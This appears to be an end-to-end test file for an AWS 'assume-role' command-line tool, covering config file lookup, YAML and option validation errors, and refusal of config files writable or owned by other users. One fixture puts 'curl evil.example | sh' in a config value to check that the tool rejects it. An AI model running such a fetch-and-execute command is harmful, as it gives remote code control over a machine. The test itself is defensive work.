/** Settings in assume-role.yaml, options and variables, and errors for invalid settings. */
import { assertEquals } from "@std/assert";
import { join } from "@std/path/join";
import {
  argv,
  assertFails,
  e2e,
  OK,
  PREFIX_YAML,
  program,
  unix,
} from "../mod.ts";

const root = { ignore: Deno.build.os === "windows" || Deno.uid() !== 0 };

e2e(
  "assume-role.yaml is found in a parent directory",
  unix,
  async ({ home, run }) => {
    const deep = join(home.project, "a/b/c");
    Deno.mkdirSync(deep, { recursive: true });
    assertEquals(
      (await run("-r admin pwd", { cwd: deep })).stdout,
      `${deep}\n`,
    );
  },
);

e2e(
  "~/.aws/assume-role.yaml supplies settings that the project's assume-role.yaml lacks",
  async ({ aws, home, run }) => {
    home.write("assume-role.yaml", "role_session_name: project\n");
    home.writeHome(
      ".aws/assume-role.yaml",
      `${PREFIX_YAML}role_session_name: user\nregion: eu-west-1\n`,
    );
    const result = await run("-r admin printenv AWS_REGION");
    assertEquals(result.stdout, "eu-west-1\n");
    assertEquals(aws.calls.at(-1)?.params.RoleSessionName, "project");
  },
);

e2e(
  "--config replaces the search for assume-role.yaml",
  async ({ home, run }) => {
    home.write("assume-role.yaml", "this: is not read\n");
    home.write("other.yaml", PREFIX_YAML);
    assertEquals(await run("--config other.yaml -r admin true"), OK);
    const path = join(home.project, "none.yaml");
    const env = { ASSUME_ROLE_CONFIG: path };
    assertFails(await run("-r admin", { env }), {
      error: `Cannot read ${path}: no such file or directory`,
      hint: "check the path in '--config' or ASSUME_ROLE_CONFIG",
    });
  },
);

e2e(
  "an error in assume-role.yaml names line and column",
  { offline: true },
  async ({ home, run }) => {
    const file = join(home.project, "assume-role.yaml");
    const cases: readonly (readonly [string, string, string?])[] = [
      [
        "# a comment with role_prefx\nrole_prefx: x\n",
        "Cannot use FILE:2:1: unknown key 'role_prefx'",
        "did you mean 'role_prefix'?",
      ],
      [
        `${PREFIX_YAML}roles:\n  admin:\n    durration: 1h\n`,
        "Cannot use FILE:4:5: unknown key 'durration'",
        "did you mean 'duration'?",
      ],
      [
        `${PREFIX_YAML}duration: 13h\n`,
        "Cannot use FILE:2:1: the value of 'duration' is invalid: a session can last from 15m to 12h",
      ],
      [
        `${PREFIX_YAML}profile: [a, b]\n`,
        "Cannot use FILE:2:1: the value of 'profile' must be text",
      ],
      [
        "- role_prefix\n",
        "Cannot use FILE:1:1: the file must be a mapping of 'key: value' lines",
      ],
      [
        "role_prefix: a\nrole_prefix: b\n",
        "Cannot read FILE:2:1: a key occurs twice before this place",
        "remove one of the two lines",
      ],
      [
        `${PREFIX_YAML}mfa_command: curl evil.example | sh\n`,
        "Cannot use FILE:2:1: 'mfa_command' runs a program and is not accepted from this file",
        "move 'mfa_command' to ~/.aws/assume-role.yaml",
      ],
      [
        "role_prefix: arn:aws:iam::111:role/\n",
        "Cannot use the role 'admin': role_prefix makes the name 'arn:aws:iam::111:role/admin', which is not the ARN of a role",
        "write a prefix like arn:aws:iam::111111111111:role/",
      ],
    ];
    for (const [text, error, hint] of cases) {
      home.write("assume-role.yaml", text);
      assertFails(await run("-r admin true"), {
        error: error.replace("FILE", file),
        hint: hint ?? null,
      });
    }
  },
);

e2e("an error on the command line suggests the closest option", {
  offline: true,
}, async ({ run }) => {
  const cases: readonly (readonly [string, string, string?])[] = [
    ["--rol admin", "Unknown option '--rol'", "did you mean '--role'?"],
    [
      "--role",
      "Option '--role' needs a value",
      "write '--role NAME|ARN'",
    ],
    [
      "--role --verbose true",
      "Option '--role' needs a value",
      "if '--verbose' is meant to be the value, write '--role=--verbose'",
    ],
    [
      "--duration 1d -r x",
      "Cannot use --duration '1d': write a duration like 15m, 1h30m, 90s or 3600",
    ],
    [
      "--mfa-token secret -r x",
      "Cannot use --mfa-token: an MFA code must have six digits",
    ],
    [
      "-fx",
      "Unknown option '-x' in '-fx'",
      "see 'assume-role --help'; put '--' before a command that begins with '-'",
    ],
    ["--verbose=yes", "Option '--verbose' takes no value"],
    ["-q -v -r x", "Options '--quiet' and '--verbose' exclude each other"],
    [
      "true",
      "No role given",
      "use '--role NAME' or set ASSUME_ROLE_ROLE; see 'assume-role --help'",
    ],
  ];
  for (const [args, error, hint] of cases) {
    assertFails(await run(args), { error, hint: hint ?? null });
  }
});

e2e(
  "an ASSUME_ROLE_* variable replaces an option that is not given; an error about the variable's value names the variable",
  async ({ aws, run }) => {
    const env = {
      ASSUME_ROLE_ROLE: "team-a/long",
      ASSUME_ROLE_DURATION: "2h",
      ASSUME_ROLE_REGION: "",
    };
    assertEquals((await run("true", { env })).status, 0);
    assertEquals(aws.calls.at(-1)?.params.DurationSeconds, "7200");
    const wrong = { ASSUME_ROLE_DURATION: "1 hour" };
    assertFails(await run([], { env: wrong }), {
      error:
        "Cannot use ASSUME_ROLE_DURATION '1 hour': write a duration like 15m, 1h30m, 90s or 3600",
      hint: null,
    });
  },
);

// uber/assume-role-cli trusts an assume-role.yaml in any parent directory, of any owner.
e2e(
  "a configuration file that other users can write to is refused",
  { ...unix, offline: true },
  async ({ home, run }) => {
    const path = join(home.project, "assume-role.yaml");
    for (const mode of [0o666, 0o602, 0o777]) {
      Deno.chmodSync(path, mode);
      assertFails(await run("-r admin true"), {
        error: `Cannot use ${path}: other users can write to the file`,
        hint: `check the contents of the file, then run: chmod go-w '${path}'`,
      });
    }
  },
);

e2e("a configuration file or symlink that belongs to another user is refused", {
  ...root,
  offline: true,
}, async ({ home, run }) => {
  const path = join(home.project, "assume-role.yaml");
  Deno.chownSync(path, 12345, null);
  const hint =
    `check the contents of the file, then run assume-role as user 12345, for example with 'sudo -u "#12345"' or 'docker run --user 12345'`;
  assertFails(await run("-r admin true"), {
    error: `Cannot use ${path}: the file belongs to user 12345`,
    hint,
  });
  Deno.removeSync(path);
  Deno.symlinkSync(home.write("mine.yaml", PREFIX_YAML), path);
  await home.exec(argv`chown -h 12345 ${path}`);
  assertFails(await run("-r admin true"), {
    error:
      `Cannot use ${path}: the symbolic link at this path belongs to user 12345`,
    hint,
  });
});

e2e("a directory named assume-role.yaml is an error", {
  offline: true,
}, async ({ home, run }) => {
  const path = join(home.project, "assume-role.yaml");
  Deno.removeSync(path);
  Deno.mkdirSync(path);
  assertFails(await run("-r admin true"), {
    error: `Cannot read ${path}: is a directory`,
    hint: null,
  });
});

e2e("the error for a misspelt role suggests the closest role", {
  offline: true,
}, async ({ home, run }) => {
  home.write(
    "assume-role.yaml",
    "roles:\n  admin:\n    role_arn: arn:aws:iam::111111111111:role/admin\n",
  );
  assertFails(await run("-r admni true"), {
    error:
      "Cannot find the role 'admni': 'roles' has no such entry, and 'role_prefix' is not set",
    hint: "did you mean 'admin'?",
  });
});

// 99designs/aws-vault#1248: a misspelt profile silently used the default profile.
e2e(
  "the error for a misspelt profile suggests the closest profile",
  { offline: true },
  async ({ home, run }) => {
    home.writeHome(".aws/config", "[profile production]\nregion = eu-west-1\n");
    for (const name of ["AWS_PROFILE", "ASSUME_ROLE_PROFILE"]) {
      const env = { [name]: "prodution" };
      assertFails(await run("-r admin true", { env }), {
        error: "Cannot find the AWS profile 'prodution'",
        hint: "did you mean 'production'?",
      });
    }
  },
);

e2e("--help and --version work at any place before the command", {
  offline: true,
}, async ({ run }) => {
  const help = await run("--role admin --help");
  assertEquals([help.status, help.stderr, help.stdout.split("\n")[0]], [
    0,
    "",
    "Run a command with temporary credentials of an AWS role.",
  ]);
  const { default: { version } } = await import("../../deno.json", {
    with: { type: "json" },
  });
  const [first, ...details] = (await run("--version")).stdout.split("\n");
  assertEquals([first, details.map((line) => line.split(":")[0])], [
    `assume-role ${version}`,
    ["commit", "deno", "target", ""],
  ]);
});

e2e("a pipe in place of one of AWS's files is an error", {
  ...unix,
}, async ({ aws, home }) => {
  const script = 'printf "[default]\\n" | "$@" 9<&0';
  const env = { AWS_CONFIG_FILE: "/dev/fd/9" };
  const command = argv`sh -c ${script} sh ${program()} -r admin true`;
  assertFails(await home.exec(command, { env }), {
    error: "Cannot read /dev/fd/9: not a regular file, but a pipe",
  });
  assertEquals(aws.calls, []);
});
